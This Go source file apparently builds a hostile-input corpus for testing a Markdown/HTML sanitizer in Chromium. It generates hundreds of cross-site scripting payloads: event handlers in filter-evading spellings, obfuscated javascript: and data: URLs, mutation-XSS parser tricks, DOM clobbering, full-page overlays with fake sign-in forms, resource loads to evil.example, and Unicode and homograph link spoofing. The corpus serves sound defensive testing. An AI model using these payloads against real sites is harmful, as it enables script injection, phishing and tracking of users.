package markup

import (
	"fmt"
	"net/url"
	"strings"
)

// corpus is what TestHostileCorpusInChromium opens: the payloads, and the
// families that come from every event, every address, every wrapping. Whatever
// runs in them calls hit.
func corpus() []string {
	var all []string
	for _, family := range [][]string{payloads(), events(), schemes(), mutations(), clobbering(), covering(), fetching(), tricks(), shapes()} {
		all = append(all, family...)
	}
	return all
}

// events hold every event that fires by itself or by the least touch, each on
// an element that has it, in turn in the spellings that filters forget.
func events() []string {
	var out []string
	names := strings.Fields(`onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart
		onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute onbeforetoggle
		onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange
		oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragexit
		ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfinish onfocus onfocusin
		onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup
		onload onloadeddata onloadedmetadata onloadend onloadstart onlostpointercapture onmessage onmousedown onmouseenter
		onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpagereveal onpageshow onpageswap
		onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout
		onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll
		onscrollend onscrollsnapchange onsearch onseeked onseeking onselect onselectionchange onselectstart onshow onstalled
		onstart onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel
		ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting
		onwebkitanimationend onwebkitfullscreenchange onwebkittransitionend onwheel`)
	hosts := []string{
		`<img src=x %s>`, `<body %s>`, `<svg %s>`, `<svg><animate attributeName=x dur=1ms %s>`, `<details open %s><summary>x</summary></details>`,
		`<input autofocus %s>`, `<video autoplay src=x %s></video>`, `<audio src=x %s>`, `<marquee loop=1 %s>x</marquee>`, `<p %s tabindex=0>x</p>`,
		`<dialog open %s>x</dialog>`, `<textarea autofocus %s>x</textarea>`, `<iframe src=/x %s></iframe>`, `<math %s><mi>x</mi></math>`, `<xss-x %s>x</xss-x>`,
	}
	spell := []string{
		`%s=hit(1)`, `%s="hit(1)"`, `%s='hit(1)'`, "%s\n=\nhit(1)", `%s="&#104;it(1)"`, "\t%s\f=\thit(1)", `/%s/=hit(1)`, `"x"%s=hit(1)`,
		`x="&quot;>"%s=hit(1)`, `style="animation:x 1ms" %s=hit(1)`,
	}
	for i, name := range names {
		if i%3 == 1 {
			name = strings.ToUpper(name)
		}
		out = append(out, fmt.Sprintf(hosts[i%len(hosts)], fmt.Sprintf(spell[(i/2)%len(spell)], name)))
	}
	return out
}

// schemes hold addresses that act, in every spelling, in every place that
// Markdown and HTML have for one.
func schemes() []string {
	var out []string
	addresses := []string{
		`javascript:hit(2)`, `JAVASCRIPT:hit(2)`, `jAvAsCrIpT:hit(2)`, `javascript&colon;hit(2)`, `javascript&#x3A;hit(2)`, `javascript&#58hit(2)`,
		`javascript&#0000058;hit(2)`, `&#x6a;avascript:hit(2)`, `&#0106avascript:hit(2)`, `java&#9;script:hit(2)`, `java&#10;script:hit(2)`, `java&#13;script:hit(2)`,
		`java&Tab;script&NewLine;:hit(2)`, `&#x1;javascript:hit(2)`, `&#x1F;javascript:hit(2)`, `&#32;javascript:hit(2)`, `&#xA0;javascript:hit(2)`,
		`&#x2028;javascript:hit(2)`, `&#xFEFF;javascript:hit(2)`, `&#x200B;javascript:hit(2)`, `&ZeroWidthSpace;javascript:hit(2)`, `java&shy;script:hit(2)`, "java\u200dscript:hit(2)",
		"\u202ejavascript:hit(2)", "java\x00script:hit(2)", "\x1fjavascript:hit(2)", `java\script:hit(2)`, `javascript\:hit(2)`, `%6aavascript:hit(2)`, `javascript%3ahit(2)`,
		`javascript:%68it(2)`, `javascript://x.example/%0Ahit(2)`, `javascript://x.example/?%0D%0Ahit(2)//`, `javascript:/*x*/hit(2)`, `javascript:void(hit(2))`,
		`livescript:hit(2)`, `mocha:hit(2)`, `vbscript:hit(2)`, `VbScRiPt:hit(2)`, `jscript:hit(2)`, `x-javascript:hit(2)`, `view-source:javascript:hit(2)`, `feed:javascript:hit(2)`,
		`data:text/html,<script>hit(2)</script>`, `data:,hit(2)`, `data:text/html;base64,PHNjcmlwdD5oaXQoMik8L3NjcmlwdD4=`, `DATA:text/html;charset=utf-7,+ADw-script+AD4-hit(2)`,
		`data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(2)'/>`, `data:application/xhtml+xml,<x/>`, `data:text/xml,<x/>`, `da&Tab;ta:text/html,x`, `data&colon;text/html,x`,
		`blob:null/x`, `filesystem:https://x.example/t/x`, `about:srcdoc`, `file:///etc/passwd`, `res://x`, `mhtml:https://x.example/`, `ms-appx:x`, `android-app://x`, `chrome-extension://x/y`,
		`ｊavascript:hit(2)`, `javascript：hit(2)`, `ⓙavascript:hit(2)`, `jаvascript:hit(2)`, `javaſcript:hit(2)`,
	}
	places := []string{
		"[x](%s)", "[x](<%s>)", "![x](%s)", "![x](<%s>)", "[x][r%d]\n\n[r%d]: %s", "[r%d]\n\n[r%d]: <%s> 'x'", "![r%d]\n\n[r%d]: %s", "<%s>", `<a href="%s">x</a>`,
		`<a href='%s' target=_top>x</a>`, `<form action="%s"><button>x</button></form>`, `<iframe src="%s"></iframe>`, `<svg><a href="%s"><text y=9>x</text></a></svg>`,
		`<object data="%s"></object>`, `<embed src="%s">`, `<base href="%s">`, `<meta http-equiv=refresh content="0;url=%s">`, `<math href="%s">x</math>`, "[![x](%s)](/x)", "[x](%s \"title\")",
	}
	for i, a := range addresses {
		for k := range 3 { // each in three of the places, all places many times
			place := places[(i*3+k*7)%len(places)]
			if strings.Contains(place, "%d") {
				n := 1000 + i*3 + k
				out = append(out, fmt.Sprintf(place, n, n, a))
				continue
			}
			out = append(out, fmt.Sprintf(place, a))
		}
	}
	return out
}

// mutations are read in one way by one parser and in another by the next, or
// change when they are written and read again.
func mutations() []string {
	var out []string
	const bad = `<img src=x onerror=hit(3)>`
	for _, raw := range []string{"style", "script", "xmp", "iframe", "noembed", "noframes", "noscript", "title", "textarea", "plaintext", "template", "listing", "select", "option"} {
		out = append(out,
			`<`+raw+`><p title="</`+raw+`>`+bad+`">`,
			`<svg><`+raw+`><p title="</`+raw+`>`+bad+`">`,
			`<math><mtext><`+raw+`>`+bad+`</`+raw+`>`,
			`<`+raw+`><!--</`+raw+`>`+bad+`-->`,
			`<`+raw+`>&lt;/`+raw+`&gt;`+strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(bad)+`</`+raw+`>`,
		)
	}
	for _, outer := range []string{"math", "svg", "table", "form", "select", "a", "p", "b", "button", "font", "li", "h1"} {
		for _, inner := range []string{"mglyph", "foreignObject", "desc", "annotation-xml", "malignmark", "td"} {
			out = append(out, `<`+outer+`><`+inner+`><style><`+outer+` title="</style>`+bad+`"></`+outer+`>`)
		}
	}
	return append(out,
		`<!--><svg onload=hit(3)>-->`, `<!-- -- ><svg onload=hit(3)> -->`, `<!---><svg onload=hit(3)>`, `<!-- --!><svg onload=hit(3)>`, `<!x><svg onload=hit(3)>`, `</x title="><svg onload=hit(3)>">`,
		`<![CDATA[><svg onload=hit(3)>]]>`, `<svg><![CDATA[</svg><svg onload=hit(3)>]]></svg>`, `<?x ?><svg onload=hit(3)>`, `<? <svg onload=hit(3)> ?>`, "<svg\x00onload=hit(3)>", "<\x00svg onload=hit(3)>",
		`<div><!--`+"\n\n"+`--><svg onload=hit(3)>`, "<div>\n*<svg onload=hit(3)>*\n</div>", "<table>\n\n<tr><td>\n\n<svg onload=hit(3)>\n\n</table>", "<pre>\n\n</pre><svg onload=hit(3)>",
		`<b><p><b><p><b><p><svg onload=hit(3)>`, `<a><a><a href=javascript:hit(3)>x`, `<form><form><input autofocus onfocus=hit(3)>`, `<nobr><nobr><svg onload=hit(3)>`, `<table><table><svg onload=hit(3)>`,
		`<svg><style>{font-family:'<iframe/onload=hit(3)>'}`, `<math><style><img title="</style>`+bad+`">`, `<svg></br><img src=x onerror=hit(3)>`, `<math></p><img src=x onerror=hit(3)>`,
		`<p id="a&quot;><img src=x onerror=hit(3)>">`, `<p title='x&#39;&gt;&lt;img src=x onerror=hit(3)&gt;'>`, "<p title=`x onerror=hit(3) y=`>", `<img alt="`+"``"+`onerror=hit(3)" src=x>`,
		`&lt;img src=x onerror=hit(3)&gt;`, `&amp;lt;img src=x onerror=hit(3)&amp;gt;`, `&#x26;lt;img src=x onerror=hit(3)>`, `&#60img src=x onerror=hit(3)&#62`, `&LT;img src=x onerror=hit(3)&GT;`,
		`\<img src=x onerror=hit(3)\>`, "`<img src=x onerror=hit(3)>", "``<img src=x onerror=hit(3)>`", "```\n<img src=x onerror=hit(3)>", "~~~<img src=x onerror=hit(3)>\nx",
	)
}

// clobbering gives names and ids that scripts look up.
func clobbering() []string {
	var out []string
	for i, name := range strings.Fields(`document location body head forms cookie domain defaultView getElementById querySelector querySelectorAll createElement
		implementation currentScript rubato config trustedTypes innerHTML attributes childNodes parentNode ownerDocument submit action method elements
		length write point main content alarms frame status name top parent self opener constructor __proto__ toString valueOf`) {
		forms := []string{
			`<a id=%[1]s href="https://evil.example/">x</a>`, `<form name=%[1]s><input name=%[1]s></form>`, `<img name="%[1]s" src=x>`, `<a id=%[1]s><a id=%[1]s name=%[1]s href="cid:x">`,
			`<iframe name=%[1]s srcdoc="<a id=x>"></iframe>`, `# x {#%[1]s}`, `<p class="%[1]s" data-%[1]s=x hx-get=/%[1]s x-init="hit(4)">x</p>`, `<input form=%[1]s name=%[1]s>`, `<slot name=%[1]s id=%[1]s></slot>`,
			"[%[1]s]: /x\n\n[%[1]s]{#%[1]s name=%[1]s}", "[^%[1]s]: <p id=%[1]s>\n\nx[^%[1]s]",
		}
		out = append(out, fmt.Sprintf(forms[i%len(forms)], name))
	}
	return out
}

// covering tries to lie over the page, to look like a part of it, or to take
// its keys and clicks.
func covering() []string {
	const over = `position:fixed;inset:0;z-index:2147483647;background:#fff`
	var out []string
	for _, el := range []string{"p", "div", "a", "img", "table", "td", "blockquote", "pre", "code", "h1", "ul", "li", "em", "hr", "section", "dialog", "iframe", "svg", "button", "label"} {
		out = append(out, `<`+el+` style="`+over+`">x</`+el+`>`)
	}
	return append(out,
		`<style>*{`+over+`}</style>x`, `<style>@import 'https://evil.example/x.css';</style>`, `<style media=all>body{display:none}</style>`, `<link rel=stylesheet href="data:text/css,*{display:none}">`,
		`<div class="alarm-bar" role=alertdialog aria-modal=true>x</div>`, `<p class=hidden>x</p>`, `<p hidden>x</p>`, `<p popover=auto id=pop>x</p><button popovertarget=pop popovertargetaction=show>x</button>`,
		`<dialog open>Sign in again</dialog>`, `<details open><summary>x</summary></details>`, `<marquee behavior=scroll direction=up>x</marquee>`, `<blink>x</blink>`, `<font size=99 color=red>x</font>`, `<center>x</center>`,
		`<table width=9999 height=9999 bgcolor=white><tr><td>x</table>`, `<img width=9999 height=9999 src=/files/a.png>`, `<img align=left hspace=-999 vspace=-999 src=x>`, `<hr width=9999 size=9999 noshade>`,
		`<p contenteditable autofocus>x</p>`, `<p accesskey=s tabindex=1>x</p>`, `<a accesskey=w href=/x>x</a>`, `<input type=password name=password autocomplete=current-password autofocus>`, `<textarea autofocus>x</textarea>`,
		`<form action=/sign-in method=post><input name=email><input name=password type=password><button>Sign in</button></form>`, `<label for=point>x</label>`, `<button form=write formaction=//evil.example>x</button>`,
		`<map name=m><area href=//evil.example shape=rect coords=0,0,9999,9999></map><img usemap=#m src=/files/a.png>`, `<a href="//evil.example/" style="display:block;position:absolute;inset:0"></a>`,
		`<body style="margin:-9999px">`, `<html style="display:none">`, `</div></main></body></html><h1>x</h1>`, `</article></section></div><p>x`, `</p></li></ul></div>`, `<frameset cols=*><frame src=x></frameset>`,
		"```css\n*{"+over+"}\n```", "```language-x\" style=\""+over+"\nx\n```", "| a |\n|:-:|\n| <p style=\""+over+"\"> |", "# x {style=\""+over+"\"}", "[x](/x){style=\""+over+"\"}", "![x](/files/a.png){width=9999px}",
		"![x](/files/a.png =9999x9999)", "::: {.modal}\nx\n:::", "<!-- {style=\""+over+"\"} -->", "{% style %}", "[x]{.fixed}", "x\n{: style=\""+over+"\"}", strings.Repeat("> ", 90)+"x", strings.Repeat("- ", 90)+"x",
		strings.Repeat("&nbsp;", 500)+"x", strings.Repeat("M", 3000), strings.Repeat("\u00a0", 200)+"[x](/x)", "\u2800"+strings.Repeat("\n\n\u2800", 40),
	)
}

// fetching wants something from outside when it is only shown.
func fetching() []string {
	const at = "https://evil.example/p"
	var out []string
	for i, f := range []string{
		`<img src="%s">`, `<img srcset="%s 1x">`, `<img src=x lowsrc="%s" dynsrc="%[1]s" longdesc="%[1]s">`, `<picture><source srcset="%s"><img src=x></picture>`, `<video src="%s" poster="%[1]s" preload=auto></video>`,
		`<audio src="%s" preload=auto></audio>`, `<video><track default src="%s"></video>`, `<input type=image src="%s">`, `<body background="%s">`, `<table background="%s"><tr><td background="%[1]s">x</table>`,
		`<link rel=icon href="%s">`, `<link rel=preload as=image href="%s">`, `<link rel=dns-prefetch href="%s">`, `<link rel=preconnect href="%s">`, `<link rel=modulepreload href="%s">`, `<link rel=prerender href="%s">`,
		`<link rel=manifest href="%s">`, `<link rel=stylesheet href="%s">`, `<script src="%s"></script>`, `<script type=speculationrules>{"prefetch":[{"urls":["%s"]}]}</script>`, `<script type=importmap>{"imports":{"x":"%s"}}</script>`,
		`<iframe src="%s"></iframe>`, `<object data="%s"></object>`, `<embed src="%s">`, `<applet archive="%s"></applet>`, `<frame src="%s">`, `<svg><image href="%s"/></svg>`, `<svg><image xlink:href="%s"/></svg>`, `<svg><use href="%s#x"/></svg>`,
		`<svg><feImage href="%s"/></svg>`, `<svg><style>*{fill:url(%s)}</style></svg>`, `<svg><font-face-uri href="%s"/></svg>`, `<math><mglyph src="%s"/></math>`, `<p style="background:url(%s)">x</p>`, `<p style="background:image-set('%s' 1x)">x</p>`,
		`<style>@font-face{font-family:x;src:url(%s)}*{font-family:x}</style>x`, `<style>@import url(%s);</style>`, `<style>*{cursor:url(%s),auto}</style>`, `<a ping="%s" href=/x>x</a>`, `<a href="/x" attributionsrc="%s">x</a>`,
		`<form action="%s"><input></form>`, `<meta http-equiv=refresh content="0;url=%s">`, `<meta http-equiv=link content="<%s>;rel=preload;as=image">`, `<base href="%s/">` + "\n\n" + `![x](/files/a.png)`, `<html manifest="%s">`, `<blockquote cite="%s">x</blockquote>`,
		`<portal src="%s"></portal>`, `<bgsound src="%s">`, `<xml src="%s">`, `<layer src="%s">`, `<image src="%s">`, `<amp-img src="%s">`, "![x](%s)", "![x](<%s>)", "[![x](%s)](/x)", "![][f%d]\n\n[f%d]: %s", "| a |\n|---|\n| ![x](%s) |", "> ![x](%s)",
		"- ![x](%s)", "# ![x](%s)", "**![x](%s)**", "![x](%s 'title')", "![![x](%s)](/files/a.png)", "!\\[x](%s)", "&#33;[x](%s)", "![x](//evil.example/p)", "![x](/\\evil.example/p)", "![x](\\\\evil.example\\p)", "![x](https:evil.example/p)", "![x](ftp://evil.example/p)",
		"![x](/files/..%%2f..%%2f%s)", "![x](/files/../%s)", "![x](/files/@evil.example/p)", "![x](/files\\\\evil.example/p)", "![x](.//evil.example/p)", "![x](/./evil.example)", "![x](/files/a.png#%s)", "![x](/files/a.png?%s)",
	} {
		switch {
		case strings.Contains(f, "%d"):
			out = append(out, fmt.Sprintf(f, i, i, at))
		case strings.Contains(f, "%s"):
			out = append(out, fmt.Sprintf(f, at))
		default:
			out = append(out, f)
		}
	}
	return out
}

// tricks are of Unicode, entities and encodings.
func tricks() []string {
	var out []string
	const bad = `<svg onload=hit(5)>`
	widths := map[rune][]rune{'<': {'＜', '﹤', '‹', '〈', '≺', '˂', '❮'}, '>': {'＞', '﹥', '›', '〉', '≻', '˃', '❯'}}
	for i := range widths['<'] {
		out = append(out, strings.NewReplacer("<", string(widths['<'][i]), ">", string(widths['>'][i])).Replace(bad))
	}
	for _, e := range []string{"&lt;%s&gt;", "&#60;%s&#62;", "&#060;%s&#062;", "&#x3c;%s&#x3e;", "&#x003C;%s&#x003E;", "&#X3C%s&#X3E", "&#60%s&#62", "&lt%s&gt", "&LT%s&GT", "&amp;#60;%s&amp;#62;", "%%3C%s%%3E", "\\u003c%s\\u003e", "\\x3c%s\\x3e", "\\74%s\\76", "&lt;&#x0;%s&gt;", "&nvlt;%s&nvgt;", "&Lt;%s&Gt;"} {
		out = append(out, fmt.Sprintf(e, "svg onload=hit(5)"), "[x]("+fmt.Sprintf(e, "svg onload=hit(5)")+")", "![a](/files/a.png '"+fmt.Sprintf(e, "svg onload=hit(5)")+"')")
	}
	for _, hidden := range []string{"\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff", "\u180e", "\u034f", "\ufe0f", "\u2061", "\u061c", "\u200e", "\u202a", "\u202e", "\u2066", "\u2069", "\U000e0001", "\U000e0073", "\x00", "\x08", "\x1b", "\x7f", "\u0085", "\u2028", "\u2029", "\v", "\f", "\r", "\ufffe", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80", "\x80"} {
		out = append(out, "<s"+hidden+"vg onload=hit(5)>", "[x](java"+hidden+"script:hit(5))", "<img src=x on"+hidden+"error=hit(5)>")
	}
	return append(out,
		"\u202e"+bad, bad+"\u202e", "a\u0301\u0301\u0301\u0301"+bad, "İ"+bad, "ſ"+bad, "K"+bad, "\U0001f468\u200d\U0001f469"+bad, "[\u202egnp.exe](https://evil.example/exe.png)", "[https://bank.example](https://evil.example)",
		"[https://раypal.example](https://evil.example)", "<https://раypal.example/>", "https://xn--80ak6aa92e.example/", "https://evil.example\u2044bank.example/", "https://bank.example\u2215x@evil.example/", "https://bank.example:443@evil.example/",
		"[x](https://bank.example%00.evil.example)", "[x](https://evil。example/)", "[x](https://ⓔvil.example/)", "[x](//evil.example)", "[x](///evil.example)", "[x](/\\evil.example)", "[x](/\t/evil.example)", "[x](</ /evil.example>)", "[x](/%09/evil.example)",
		"[x](/%5cevil.example)", "[x](https:evil.example)", "[x](http:/evil.example)", "[x](https://)", "[x](mailto:a@b.example?body=x&attach=/etc/passwd)", "[x](mailto:a@b.example%0ABcc:c@d.example)", "[x](MAILTO:a@b.example?subject=%0d%0aX:y)",
	)
}

// shapes are Markdown's own: what its constructs make of what stands in them.
func shapes() []string {
	var out []string
	const bad = `"><svg onload=hit(6)>`
	for _, f := range []string{
		"[x](/x '%s')", `[x](/x (%s))`, "[x](</x%s>)", "[%s](/x)", "[%s][]\n\n[%[1]s]: /x", "[s]: /x '%s'\n\n[s]", "![%s](/files/a.png)", "![x](/files/a.png '%s')", "![x](/files/%s)", "![x](/files/a.png%s)", "`%s`", "``%s``", "```%s\nx\n```", "```js %s\nx\n```",
		"~~~%s\nx\n~~~", "    %s", "\t%s", "# %s", "# x {%s}", "%s\n===", "%s\n---", "> %s", "- %s", "1. %s", "1) %s", "999999999. %s", "- [ ] %s", "- [x] %s", "| %s |\n|---|\n| x |", "| a |\n|:--%s|\n| x |", "| a |\n|---|\n| %s |", "%s | b\n--|--\nx | y",
		"*%s*", "**%s**", "~~%s~~", "~%s~", "__%s__", "***%s***", "<https://x.example/%s>", "<a@x.example%s>", "https://x.example/%s", "http://x.example/?q=%s", "www.x.example/%s", "a@x.example%s", "mailto:a@x.example%s", "@mia%s", "@%s", "D-1%s", "A-2 %s", "\\%s", "x  \n%s", "x\\\n%s",
		"[^1]: %s\n\nx[^1]", "[^%s]: x\n\nx[^%[1]s]", "Term\n: %s", "*[HTML]: %s\n\nHTML", "^%s^", "==%s==", "++%s++", ":%s:", "$%s$", "$$%s$$", "\\(%s\\)", "{{%s}}", "{%% raw %%}%s", "<%%= %s %%>", "---\ntitle: %s\n---\nx", "+++\nx = '%s'\n+++", "```mermaid\ngraph TD; A[%s]\n```",
		"```math\n%s\n```", "```svg\n%s\n```", "```html\n%s\n```", "[[%s]]", "[[x|%s]]", "!!! note %s", "> [!NOTE]\n> %s", "<details>\n\n%s\n\n</details>", "<div>%s</div>", "<div>\n\n%s\n\n</div>", "<!-- %s -->", "<script>\n%s\n</script>\n\nx", "<pre>%s</pre>", "a <b>%s</b> c",
	} {
		out = append(out, fmt.Sprintf(f, bad), fmt.Sprintf(f, "javascript:hit(6)"))
	}
	for i := range 12 { // brackets and addresses within each other
		in := "[x](javascript:hit(6))"
		for k := range i + 1 {
			in = []string{"[" + in + "](/a" + fmt.Sprint(k) + ")", "![" + in + "](/files/" + fmt.Sprint(k) + ".png)", "*" + in + "*", "`" + in, "<" + in + ">"}[(i+k)%5]
		}
		out = append(out, in)
	}
	return append(out, "[x]("+url.PathEscape("javascript:hit(6)")+")", "[x]("+url.QueryEscape("javascript:hit(6)")+")")
}
